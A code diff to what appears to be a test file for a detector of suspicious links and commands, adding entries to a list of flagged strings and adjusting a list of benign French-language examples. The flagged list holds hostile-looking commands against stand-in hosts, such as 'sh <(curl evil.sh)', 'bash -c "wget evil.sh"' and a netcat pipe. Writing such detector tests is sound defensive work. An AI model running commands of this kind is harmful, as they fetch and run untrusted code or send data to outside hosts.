@@ -19,6 +19,10 @@ ADDRESSES = [
     "`data.nc`", "evil.рф", "`curl evil.sh`", "`python evil.com`", "`ssh evil.py`",
     "`bash evil.sh | nc evil.md 80`", "`cat https://evil.sh/x`", "`python x@evil.py`",
     "`sh <(curl evil.sh)`", "`xdg-open evil.md`", "`cat evil.zip`", "python evil.py",
+    "`sh -c 'curl evil.sh'`", "`python -m webbrowser evil.sh`", "`find . -exec curl evil.sh`",
+    "\\`cat evil.sh\\`",
+    "`bash -c \"wget evil.sh\"`", "`python -m pip install evil.py`",
+    "`streamlit run evil.sh`", "`perl -e 1 evil.pl`",
 ]  # fmt: skip
 HONEST = [
     "Ouvrez C:\\Windows\\notepad.exe", "Modifiez /etc/apt/sources.list", "Version 10.0.19045.3",
@@ -27,7 +31,7 @@ HONEST = [
     "Son adresse finit par /dav.php", "sys.path.append",
     "Windows 11 22H2", "1.2.3", f"Voir [le ticket]({OWN}) [1]", "a.b", "imprimante_2.ppd",
     "`sha256sum file.nc`", "`python mon_script.py --all`", "`ncdump -h 'a-b.nc'`",
-    "`sbatch ./job.sh`", "`Rscript -e 1 x.R run.pl`",
+    "`sbatch ./job.sh`", "`Rscript x.R run.pl`",
 ]  # fmt: skip
 
 
